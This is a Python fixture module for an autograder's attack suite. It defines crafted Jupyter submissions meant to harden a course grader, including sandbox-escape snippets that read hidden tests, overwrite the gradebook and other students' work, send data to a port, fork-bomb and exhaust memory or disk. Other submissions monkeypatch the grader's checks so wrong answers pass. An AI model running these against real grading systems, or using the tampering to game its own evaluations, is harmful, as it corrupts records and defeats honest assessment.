"""Submissions that attack the grader, for the attack suite (``tests/grading/test_class.py``).

Each is correct where it says it is and does something an instructor fears on top: escape the sandbox
(read the hidden tests, write the gradebook, rewrite another student's work, reach the grading
machine's network, fork-bomb, exhaust memory or disk, flood the output), hand a question to the
lab's reference code in many spellings, through callbacks, under borrowed file names or through the
lab's own functions patched, paste answers computed at home, or answer wrongly and then tamper with
the checks inside the kernel. Each must score exactly what its honest answers earn.
"""

from __future__ import annotations

import base64
import io
import random
from pathlib import Path

import nbformat
import numpy as np

from grading.golden import Crafted

NB1, NB2, NB3, NB4 = (
    "1_data_and_transforms.ipynb",
    "2_embeddings.ipynb",
    "3_spark_lsh.ipynb",
    "4_nearest_neighbors.ipynb",
)

#: Prints one line "ATTACK <name> <outcome>" per attempt; the test reads them and checks the world outside.
ESCAPES = r"""
import json, os, pathlib, socket, sqlite3
import helpers
guesses = [pathlib.Path(helpers.__file__).parents[1],  # the repository the lab's package comes from
           pathlib.Path.cwd().parents[2],              # <course>/autograded/<student>/lab5 in nbgrader's layout
           pathlib.Path(COURSE)]                       # the real course directory, as if the student knew it
me = pathlib.Path.cwd().parent.name

def attempt(name, action):
    try:
        print("ATTACK", name, "succeeded:", json.dumps(action())[:200])
    except BaseException as error:
        print("ATTACK", name, "failed:", type(error).__name__)

def everywhere(pattern):
    return [path for root in guesses for path in root.glob(pattern)]

attempt("read-source", lambda: [p.read_text()[:100] for p in everywhere("source/lab5/*.ipynb")] or 1 / 0)
attempt("write-gradebook", lambda: [sqlite3.connect(f"file:{p}?mode=rw", uri=True)
                                    .execute("UPDATE grade SET manual_score = 0").rowcount
                                    for p in everywhere("gradebook.db")] or 1 / 0)
attempt("rewrite-other-submission", lambda: [p.write_text("{}") for p in everywhere("*/*/lab5/*.ipynb")
                                             if me not in p.parts] or 1 / 0)
attempt("network", lambda: socket.create_connection(("127.0.0.1", PORT), timeout=5).sendall(b"stolen"))
attempt("memory-30GB", lambda: len(bytearray(30 * 2**30)))
attempt("disk-3GB", lambda: [open("lab5_work/filler.bin", "ab").write(b"\0" * 2**20) for _ in range(3 * 1024)] and 0)
attempt("tmp-3GB", lambda: [open("/tmp/filler.bin", "ab").write(b"\0" * 2**20) for _ in range(3 * 1024)] and 0)
""".strip()
#: A process of notebook 1 that outlives its kernel (a session of its own) and logs what the lab's cache
#: shows; notebook 2 checks it is gone and never saw notebook 2's reference files.
LINGER = r"""
import os, subprocess, sys
WATCH = '''
import os, time
while True:
    with open("lab5_work/lingering.txt", "a") as log:
        log.write(" ".join(sorted(os.listdir(os.environ["LAB_CACHE_DIR"]))) + "\\n")
    time.sleep(0.05)
'''
os.makedirs("lab5_work", exist_ok=True)
daemon = subprocess.Popen([sys.executable, "-c", WATCH], start_new_session=True)
open("lab5_work/lingering.pid", "w").write(str(daemon.pid))
""".strip()
LINGERED = r"""
import os
pid = int(open("lab5_work/lingering.pid").read())
views = sorted(set(open("lab5_work/lingering.txt").read().splitlines()))
try:
    alive = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[0] not in "ZX"
except OSError:
    alive = False
print("ATTACK linger", "succeeded:" if alive or len(views) != 1 else "failed:", "alive" if alive else "gone", views)
""".strip()
FLOOD = 'for _ in range(100):\n    print("x" * 1_000_000)  # 100 MB of output'
FORK_BOMB = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"


def escapes(port: int, course: str) -> Crafted:
    """Correct notebooks 1 and 2 plus, after notebook 1's test, every escape attempt, a process left behind, a
    flood and a fork bomb; at the end of notebook 2, the check that the process left behind is gone.

    ``port``: where the test listens on the grading machine's loopback; ``course``: the real course folder.
    """
    code = ESCAPES.replace("PORT", str(port)).replace("COURSE", repr(course))
    return Crafted(added={NB1: (code, LINGER, FLOOD, FORK_BOMB), NB2: (LINGERED,)}, notebooks=(NB1, NB2))


#: Shortcuts to the reference code, spelled in as many ways as possible; the honest answers around
#: them (including ones that only mention helpers in a comment) keep their points.
SHORTCUTS = {
    "shortcuts_a": Crafted(
        answers={
            "q1_answer": "# The lab's helpers.reference.resize.resize_folder would do this, but it is mine to write.\n"
            "from helpers.reference.resize import resize_folder as make_thumbnails  # an alias\n"
            "make_thumbnails(LAB.image_names, LAB.image_dir, LAB.resized_dir)\n",
            "q3_answer": "import importlib\n"
            "reference = getattr(importlib.import_module('helpers.reference.' + 'vectors'), 'embed' + 'dings')\n"
            "names, vectors = reference(LAB)  # a module and a name built from strings\n",
            "q6_answer": "exec('from helpers.reference.spark_lsh import assemble\\nassembled = assemble(df)')\n",
            "q10_answer": "query_vector = __import__('helpers.reference.neighbors', fromlist=['x']).vector_of(hashed, "
            "query_image)\n",
            "q12_answer": "from helpers.reference.neighbors import show_neighbors\n"
            "fig = show_neighbors(query_image, neighbors.toPandas().rename(columns={'distCol': 'distance'}),\n"
            "                     LAB.image_dir, CAPTIONS)\n",
        },
        loses=(
            "q1_resize_224_jpeg",
            "q3_all_embeddings",
            "q6_features_vector",
            "q10_query_vector",
            "q12_neighbor_figure",
        ),
        says={
            "q1_resize_224_jpeg": "resize_folder",
            "q3_all_embeddings": "embeddings",
            "q6_features_vector": "assemble",
            "q10_query_vector": "vector_of",
            "q12_neighbor_figure": "show_neighbors",
        },
    ),
    "shortcuts_b": Crafted(
        answers={
            "q1_answer": "import subprocess, sys  # in another process\n"
            "code = ('from helpers import lab; from helpers.reference import resize; run = lab.setup(); '\n"
            "        'resize.resize_folder(run.image_names, run.image_dir, run.resized_dir)')\n"
            "subprocess.run([sys.executable, '-c', code], check=True)\n",
            "q2_answer": "from helpers.reference.embedding import *  # a star import, a subclass inheriting the work\n"
            "class C(Embedder):\n"
            "    def __init__(self, model):\n"
            "        super().__init__('resnet18', model=model, precision='fp32')\n",
            "q7_answer": "import threading  # in a thread\n"
            "found = {}\n"
            "spark_lsh = __import__('helpers.reference.spark_lsh', fromlist=['x'])\n"
            "worker = threading.Thread(target=lambda: found.update(model=spark_lsh.fit_lsh(assembled, seed=SEED)))\n"
            "worker.start()\n"
            "worker.join()\n"
            "model = found['model']\n",
            "q11_answer": "from helpers.reference import neighbors as s\n"
            "found = s.nearest_neighbors(model, hashed, query_vector, 5)\n"
            "neighbors = spark.createDataFrame(found.rename(columns={'distance': 'distCol'}))\n",
        },
        # Q3's answer uses this C, whose get_vec is the reference's: Q3's work is reference code too.
        loses=(
            "q1_resize_224_jpeg",
            "q2_class_c_get_vec",
            "q3_all_embeddings",
            "q7_brp_model",
            "q11_five_nearest_neighbors",
        ),
        says={
            "q1_resize_224_jpeg": "resize_folder",
            "q2_class_c_get_vec": "Embedder",
            "q3_all_embeddings": "reference code",
            "q7_brp_model": "fit_lsh",
            "q11_five_nearest_neighbors": "nearest_neighbors",
        },
    ),
    # Q3's reference result computed at the end of notebook 1 (costing Q1) and kept on disk for Q3's answer in
    # notebook 2: reference work costs the question it does, wherever it ran.
    "stashed_for_later": Crafted(
        added={
            NB1: (
                "import json\nimport numpy as np\nfrom helpers.reference.embedding import Embedder\n"
                "names = list(LAB.image_names)\n"
                "vectors, _ = Embedder(weights=LAB.weights).embed_files([LAB.resized_dir / name for name in names])\n"
                "np.save(LAB.work_dir / 'kept.npy', vectors)\n"
                "(LAB.work_dir / 'kept.json').write_text(json.dumps(list(names)))\n",
            )
        },
        answers={
            "q3_answer": "import json\n"
            "names = json.loads((LAB.work_dir / 'kept.json').read_text())\n"
            "vectors = np.load(LAB.work_dir / 'kept.npy')  # nothing of the reference runs in this notebook\n",
        },
        notebooks=(NB1, NB2),
        loses=("q1_resize_224_jpeg", "q3_all_embeddings"),
        says={"q1_resize_224_jpeg": "embed_files", "q3_all_embeddings": "which does Q3's work"},
    ),
}

#: Reference code run by callbacks that the kernel, a library or the interpreter calls between or inside
#: cells, outside any cell's own code: each costs the question of the cell running, and only that one.
CALLBACKS = Crafted(
    answers={
        "q3_answer": "from helpers.reference import vectors as _reference\n"
        "def _fill(result):  # an IPython event: it runs after this cell's code\n"
        "    global names, vectors\n"
        "    get_ipython().events.unregister('post_run_cell', _fill)\n"
        "    names, vectors = _reference.embeddings(LAB)\n"
        "get_ipython().events.register('post_run_cell', _fill)\n",
        "q6_answer": "import sys\n"
        "from helpers.reference import spark_lsh as _reference\n"
        "def _profile(frame, event, arg):  # a profile function: the interpreter calls it on the next call\n"
        "    global assembled\n"
        "    sys.setprofile(None)\n"
        "    assembled = _reference.assemble(df)\n"
        "sys.setprofile(_profile)\n"
        "len([])\n",
        "q7_answer": "from helpers.reference import spark_lsh as _reference\n"
        "def _before(info):  # an IPython event: it runs before the next cell, Q7's test\n"
        "    global model\n"
        "    get_ipython().events.unregister('pre_run_cell', _before)\n"
        "    model = _reference.fit_lsh(assembled, seed=SEED)\n"
        "get_ipython().events.register('pre_run_cell', _before)\n"
        "model = None\n",
        "q10_answer": "import weakref\n"
        "from helpers.reference import neighbors as _reference\n"
        "class _Box:\n"
        "    pass\n"
        "def _work():  # a finaliser: the interpreter runs it when the box goes\n"
        "    global query_vector\n"
        "    query_vector = _reference.vector_of(hashed, query_image)\n"
        "_box = _Box()\n"
        "weakref.finalize(_box, _work)\n"
        "del _box\n",
        "q12_answer": "import signal\n"
        "from helpers.reference import neighbors as _reference\n"
        "def _on_alarm(signum, frame):  # a signal handler: the interpreter runs it between two instructions\n"
        "    global fig\n"
        "    table = neighbors.toPandas().rename(columns={'distCol': 'distance'})\n"
        "    fig = _reference.show_neighbors(query_image, table, LAB.image_dir, CAPTIONS)\n"
        "signal.signal(signal.SIGALRM, _on_alarm)\n"
        "signal.setitimer(signal.ITIMER_REAL, 0.05)\n"
        "signal.pause()\n",
    },
    notebooks=(NB2, NB3, NB4),
    loses=(
        "q3_all_embeddings",
        "q6_features_vector",
        "q7_brp_model",
        "q10_query_vector",
        "q12_neighbor_figure",
    ),
    says={"q7_brp_model": "fit_lsh", "q12_neighbor_figure": "show_neighbors"},
)

#: Reference code under file names that are not the student's: a standard library file's, pyspark's, and
#: the name ipykernel gives the locked Setup cell. The name proves nothing: each costs its question.
BORROWED_NAMES = {
    "q2_answer": "import os\n"
    "SOURCE = (\n"
    "    'class C:\\n'\n"
    "    '    def __init__(self, model):\\n'\n"
    "    '        self.model = model\\n'\n"
    "    '    def get_vec(self, image):\\n'\n"
    "    '        from helpers.reference.embedding import Embedder\\n'\n"
    "    \"        return Embedder('resnet18', model=self.model, precision='fp32').get_vec(image)\\n\"\n"
    ")\n"
    "exec(compile(SOURCE, os.__file__, 'exec'))  # compiled under the name of a standard library file\n",
    "q5_answer": "import pyspark\n"
    "CODE = (\"df = __import__('helpers.reference.spark_lsh', fromlist=['x'])\"\n"
    '        ".read_embeddings_df(spark, EMBEDDINGS_CSV)")\n'
    "exec(compile(CODE, pyspark.__file__, 'exec'))  # a string, named like pyspark's own file\n",
    "q11_answer": "from ipykernel.compiler import get_file_name\n"
    "CODE = (\"found = __import__('helpers.reference.neighbors', fromlist=['x'])\"\n"
    '        ".nearest_neighbors(model, hashed, query_vector, 5)")\n'
    "exec(compile(CODE, get_file_name(SETUP), 'exec'))  # under the file name of this notebook's Setup cell\n"
    "neighbors = spark.createDataFrame(found.rename(columns={'distance': 'distCol'}))\n",
}

#: The lab's own functions replaced by the student's, so that the locked test cells call the reference code.
PATCHED_LAB = Crafted(
    answers={
        "q1_answer": "import helpers.questions.q01_resize as _q1\n"
        "from helpers.reference.resize import resize_folder\n"
        "_visible = _q1.visible\n"
        "def _patched(lab, found):  # the lab's test calls it: now it does Q1's work first\n"
        "    resize_folder(lab.image_names, lab.image_dir, lab.resized_dir)\n"
        "    return _visible(lab, found)\n"
        "_q1.visible = _patched\n",
        "q8_answer": "import helpers.questions.q08_hashed as _q8\n"
        "from helpers.reference import spark_lsh as _reference\n"
        "_collect = _q8.collect\n"
        "def _patched(lab, hashed=None, model=None):  # the lab's test calls it with whatever hashed is\n"
        "    return _collect(lab, _reference.query_index(lab, spark, EMBEDDINGS_CSV, '').hashed, model)\n"
        "_q8.collect = _patched\n"
        "hashed = None\n",
    },
    notebooks=(NB1, NB3),
    loses=("q1_resize_224_jpeg", "q8_hashed_dataframe"),
    says={"q1_resize_224_jpeg": "resize_folder", "q8_hashed_dataframe": "query_index"},
)


def borrowed_names(release: Path) -> Crafted:
    """The borrowed-file-name attacks; Q11's needs notebook 4's Setup cell from ``release``, as students have it.

    Q3 embeds without class C, yet Q2's C, whose get_vec is the reference's, costs Q3 too: the reference's
    per-image embedding ran (in Q2's test) before Q3's answer, which could have used what it computed.
    """
    from grading.course import grade_id
    from grading.mistakes import OWN_EMBEDDINGS

    setup = next(cell.source for cell in nbformat.read(release / NB4, as_version=4).cells if grade_id(cell) == "setup")
    answers = dict(BORROWED_NAMES)
    answers["q11_answer"] = f"SETUP = {setup!r}\n" + answers["q11_answer"]
    answers["q3_answer"] = OWN_EMBEDDINGS.replace("FOLDER", "INPUT_DIR").replace("ORDER", "names")
    return Crafted(
        answers=answers,
        notebooks=(NB2, NB3, NB4),
        loses=("q2_class_c_get_vec", "q3_all_embeddings", "q5_spark_dataframe", "q11_five_nearest_neighbors"),
        says={
            "q2_class_c_get_vec": "Embedder",
            "q3_all_embeddings": "which does Q3's work",
            "q5_spark_dataframe": "read_embeddings_df",
        },
    )


def pasted_answers(work: Path) -> Crafted:
    """Answers computed at home with the reference helpers on the student's own sample, pasted in as data.

    Q3's names and vectors, Q10's vector and Q11's table: each scores 0 under the autograder, which runs
    the notebooks on images the student never had. Q4 and Q12 compute their own, so nothing cascades.
    """
    from grading.mistakes import OWN_EMBEDDINGS
    from helpers import lab
    from helpers.config import SEED
    from helpers.reference.neighbors import exact_neighbors
    from helpers.reference.resize import resized_dir
    from helpers.reference.vectors import embeddings
    from helpers.vectors import unit_vectors

    home = lab.setup(work / "lab5_work")  # the student's own run: LAB_SUBSET images picked with the lab's seed
    resized_dir(home)
    names, vectors = embeddings(home)
    query = random.Random(SEED).choice(home.image_names)
    unit = unit_vectors(vectors)
    table = exact_neighbors(names, unit, unit[names.index(query)], 5).rename(columns={"distance": "distCol"})

    def pasted(array: np.ndarray) -> str:
        stream = io.BytesIO()
        np.save(stream, np.asarray(array))
        return f"np.load(io.BytesIO(base64.b64decode({base64.b64encode(stream.getvalue()).decode()!r})))"

    own_vectors = OWN_EMBEDDINGS.replace("FOLDER", "INPUT_DIR").replace("ORDER", "names")
    return Crafted(
        answers={
            "q3_answer": "import base64, io  # computed at home with helpers.reference, pasted in\n"
            f"names = {names!r}\nvectors = {pasted(vectors)}\n",
            "q4_answer": own_vectors + "table = pd.DataFrame(vectors)\ntable.insert(0, 'image', names)\n"
            "table.to_csv(LAB.embeddings_csv, index=False)\n",
            "q10_answer": f"import base64, io\nimport numpy as np\nquery_vector = {pasted(unit[names.index(query)])}\n",
            "q11_answer": "import io\nimport pandas as pd\n"
            f"neighbors = spark.createDataFrame(pd.read_json(io.StringIO({table.to_json()!r})))\n",
            "q12_answer": "key = hashed.filter(hashed['image'] == query_image).first()['features']\n"
            "rows = model.approxNearestNeighbors(hashed, key, 5).orderBy('distCol').collect()\n"
            "fig, axes = plt.subplots(1, 5)\n"
            "for axis, row in zip(axes, rows):\n"
            "    axis.imshow(Image.open(LAB.image_dir / row['image']).convert('RGB'))\n",
        },
        loses=("q3_all_embeddings", "q10_query_vector", "q11_five_nearest_neighbors"),
        says={"q3_all_embeddings": "names must be the"},
        notebooks=(NB2, NB4),
    )


#: Wrong answers that then tamper with what checks them inside the kernel; each must score 0 there.
TAMPERING = Crafted(
    answers={
        "q1_answer": "resize = T.Compose([T.Resize(224), T.CenterCrop(224)])  # wrong: crops\n"
        "LAB.resized_dir.mkdir(parents=True, exist_ok=True)\n"
        "for name in LAB.image_names:\n"
        "    with Image.open(LAB.image_dir / name) as image:\n"
        "        resize(image.convert('RGB')).save(LAB.resized_dir / name, format='JPEG', quality=95)\n"
        "import helpers.questions.q01_resize  # swap the check's code object\n"
        "helpers.questions.q01_resize.resized_problems.__code__ = (lambda folder, lab: []).__code__\n",
        "q3_answer": "embedder = C(resnet)\n"
        "names = list(LAB.image_names)\n"
        "vectors = np.stack([embedder.get_vec(Image.open(INPUT_DIR / n)) for n in reversed(names)])  # misaligned\n"
        "import helpers.vectors  # loosen the comparison through its defaults, and numpy\n"
        "helpers.vectors.same_vectors.__defaults__ = (-2.0,)\n"
        "np.allclose = lambda *args, **kwargs: True\n",
        "q8_answer": "hashed = model.transform(assembled.limit(10))  # wrong: 10 of the images\n"
        "import sys, types  # replace the hidden tests' module, and swallow every error\n"
        "fake = types.ModuleType('grading.hidden')\n"
        "fake.grade = lambda *args, **kwargs: None\n"
        "sys.modules['grading.hidden'] = fake\n"
        "sys.modules['grading'].hidden = fake\n"
        "get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)\n",
        "q12_answer": "fig, axes = plt.subplots(1, 5)\n"
        "for axis in axes:  # wrong: the query five times\n"
        "    axis.imshow(Image.open(LAB.image_dir / query_image).convert('RGB'))\n"
        "# and from now on every test cell does nothing\n"
        "silence = lambda lines: ['pass\\n'] if any('helpers.questions' in line for line in lines) else lines\n"
        "get_ipython().input_transformers_cleanup.append(silence)\n",
    },
    # Replacing a lab function's code or defaults is refused as tampering: every test of that notebook fails.
    loses=(
        "q1_resize_224_jpeg",
        "q2_class_c_get_vec",
        "q3_all_embeddings",
        "q4_embeddings_csv",
        "q8_hashed_dataframe",
        "q12_neighbor_figure",
    ),
)


def _edit_tests(notebooks: dict) -> None:
    """Q1's test replaced by `pass`, Q4's test deleted: nbgrader must restore both."""
    from grading.course import grade_id

    for cell in notebooks[NB1].cells:
        if grade_id(cell) == "q1_resize_224_jpeg":
            cell.source = '"""Q1 always passes."""\npass'
    notebooks[NB2].cells = [cell for cell in notebooks[NB2].cells if grade_id(cell) != "q4_embeddings_csv"]


def _rename_first(notebooks: dict) -> None:
    notebooks[NB1.replace(".ipynb", " (1).ipynb")] = notebooks.pop(NB1)


#: Code that misbehaves without attacking: each costs only its own question, and the notebooks after
#: it are graded as usual. Each is handed in with the notebooks that show it: its own, and notebook 2
#: after a notebook 1 that crashed or lost tests.
#: Notebook 3 leaves a view and a cached table in the submission's driver JVM, then stops the JVM itself;
#: notebook 4 runs in the same JVM (it prints its pid too) with neither, and scores full marks.
LEAVE_IN_DRIVER = r"""
import os, signal
spark.range(3).createOrReplaceGlobalTempView("left_behind")
spark.range(1000).cache().count()
print("JVM", spark.sparkContext._jvm.java.lang.ProcessHandle.current().pid())
for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
    try:
        if open(f"/proc/{pid}/comm").read().strip() == "java":
            os.kill(int(pid), signal.SIGSTOP)
    except OSError:
        pass
""".strip()
LOOK_IN_DRIVER = r"""
left = spark.catalog.tableExists("global_temp.left_behind")
print("ATTACK left in driver", "succeeded:" if left else "failed:", "view seen" if left else "view gone")
print("JVM", spark.sparkContext._jvm.java.lang.ProcessHandle.current().pid())
""".strip()

MISBEHAVING = {
    "infinite_loop": Crafted(
        answers={"q1_answer": "while True:\n    pass\n"}, notebooks=(NB1,), loses=("q1_resize_224_jpeg",)
    ),
    "kernel_dies": Crafted(
        answers={"q3_answer": "import os\nos._exit(1)\n"},
        notebooks=(NB2,),
        loses=("q3_all_embeddings", "q4_embeddings_csv"),
    ),  # Q4 stores Q3's lost vectors
    "crash_and_oom": Crafted(
        answers={
            "q1_answer": "import os, signal\nos.kill(os.getpid(), signal.SIGSEGV)  # a segmentation fault\n",
            "q4_answer": "huge = bytearray(1 << 50)  # a petabyte\n",
        },
        notebooks=(NB1, NB2),
        loses=("q1_resize_224_jpeg", "q4_embeddings_csv"),
    ),
    "edited_tests": Crafted(
        answers={"q1_answer": TAMPERING.answers["q1_answer"].split("import helpers")[0]},
        notebooks=(NB1, NB2),
        loses=("q1_resize_224_jpeg",),
        edit=_edit_tests,
    ),
    "renamed_and_missing": Crafted(notebooks=(NB1, NB2), loses=("q1_resize_224_jpeg",), edit=_rename_first),
    "left_in_driver": Crafted(added={NB3: (LEAVE_IN_DRIVER,), NB4: (LOOK_IN_DRIVER,)}, notebooks=(NB3, NB4)),
}


#: Evidence damaged on its way to the grader: the student's code truncates the file Q9's test exports.
#: Only Q9 fails, with a message that says so; the notebook's other tests are graded as usual.
GARBAGE_EVIDENCE = Crafted(
    answers={
        "q9_answer": "query_image = random.Random(SEED).choice(LAB.image_names)\n"
        "import helpers.questions as _questions\n"
        "_save = _questions.save\n"
        "def _garbage(found, folder, grade_id):  # the next test's results, damaged on disk\n"
        "    _questions.save = _save\n"
        "    _save(found, folder, grade_id)\n"
        "    (folder / f'{grade_id}.npz').write_bytes(b'PK\\x03\\x04' + bytes(10))\n"
        "_questions.save = _garbage\n"
    },
    notebooks=(NB4,),
    loses=("q9_random_query_image",),
    says={"q9_random_query_image": "could not read"},
)
